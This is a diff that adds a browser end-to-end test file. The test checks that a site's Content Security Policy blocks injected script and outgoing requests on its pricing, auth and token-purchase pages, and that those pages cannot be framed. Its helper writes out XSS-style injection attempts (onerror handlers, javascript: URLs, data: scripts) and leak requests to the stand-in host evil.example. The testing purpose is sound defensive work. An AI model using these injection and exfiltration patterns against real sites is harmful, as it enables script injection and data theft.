@@ -1,0 +1,85 @@
+// What the headers are for: whatever gets into a page all the same does not run there and carries nothing out.
+import { expect, inject } from 'vitest'
+import type { Page } from 'playwright-core'
+import { test } from '../support/e2e/test.ts'
+
+const elsewhere = 'https://evil.example'
+
+interface Watched extends Window {
+  blocked?: Set<string>
+  smuggled?: number
+}
+
+/** Tries everything in the page, which notes what was blocked. */
+async function attemptAll(page: Page) {
+  await page.evaluate(async (foreign) => {
+    const blocked = ((window as Watched).blocked = new Set<string>())
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.add(effectiveDirective))
+    // oxlint-disable-next-line unicorn/consistent-function-scoping -- all of this is sent to the page as text
+    const made = (name: string, attributes: Record<string, string>) => {
+      const element = document.createElement(name)
+      for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+      document.body.append(element)
+      return element
+    }
+    const run = 'window.smuggled = 1'
+    const attempts: Record<string, () => unknown> = {
+      inline: () => (made('script', {}).textContent = run),
+      markup: () => (made('div', {}).innerHTML = `<img src=x onerror="${run}">`),
+      handler: () => (made('button', { onclick: run }) as HTMLButtonElement).click(),
+      data: () => made('script', { src: `data:text/javascript,${run}` }),
+      foreign: () => made('script', { src: `${foreign}/x.js` }),
+      text: () => setTimeout(run as unknown as TimerHandler),
+      address: () => (made('a', { href: `javascript:${run}` }) as HTMLAnchorElement).click(),
+      style: () => (made('style', {}).textContent = `body { background: url(${foreign}/leak.png) }`),
+      image: () => made('img', { src: `${foreign}/leak.png` }),
+      frame: () => made('iframe', { src: `${foreign}/` }),
+      base: () => made('base', { href: `${foreign}/` }),
+      form: () => (made('form', { action: `${foreign}/`, method: 'post' }) as HTMLFormElement).submit(),
+      call: () => fetch(`${foreign}/leak`).catch(() => null)
+    }
+    for (const attempt of Object.values(attempts)) {
+      try {
+        // oxlint-disable-next-line no-await-in-loop -- one at a time, as they would come
+        await attempt()
+      } catch {
+        // Trusted Types refuse by throwing.
+      }
+    }
+  }, elsewhere)
+}
+
+test('a page runs nothing that was smuggled into it, and carries nothing out', async ({ browser }) => {
+  const context = await browser.newContext({ baseURL: inject('siteOrigin') })
+  const page = await context.newPage()
+  // What the policy stops fails as that; whatever else was let out. Frames of the payment page may be of any bank.
+  const letOut: string[] = []
+  page.on('requestfailed', (request) => {
+    const isFrame = request.resourceType() === 'document' && page.url().endsWith('/token-purchase')
+    const reason = request.failure()?.errorText ?? ''
+    if (request.url().startsWith(elsewhere) && !isFrame && !/csp|BLOCKED_BY_CSP/.test(reason))
+      letOut.push(`${request.url()} ${reason}`)
+  })
+  for (const path of ['/pricing', '/auth', '/token-purchase']) {
+    await page.goto(path)
+    await page.locator('h1').first().waitFor()
+    await attemptAll(page)
+    await expect
+      .poll(() => page.evaluate(() => [...((window as Watched).blocked ?? [])]))
+      .toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'connect-src', 'base-uri', 'form-action']))
+    const [ran, base] = await page.evaluate(() => [(window as Watched).smuggled, document.baseURI])
+    expect([path, ran, base]).toEqual([path, undefined, inject('siteOrigin') + path])
+    expect(page.url()).toBe(inject('siteOrigin') + path)
+  }
+  expect(letOut).toEqual([])
+  await context.close()
+})
+
+test('no other site can show a page of ours in a frame', async ({ browser }) => {
+  const context = await browser.newContext()
+  const page = await context.newPage()
+  const origin = inject('siteOrigin')
+  await page.setContent(['/auth', '/token-purchase'].map((path) => `<iframe src="${origin}${path}"></iframe>`).join(''))
+  await expect.poll(() => page.frames().filter((frame) => frame.url().startsWith('chrome-error:')).length).toBe(2)
+  await context.close()
+})
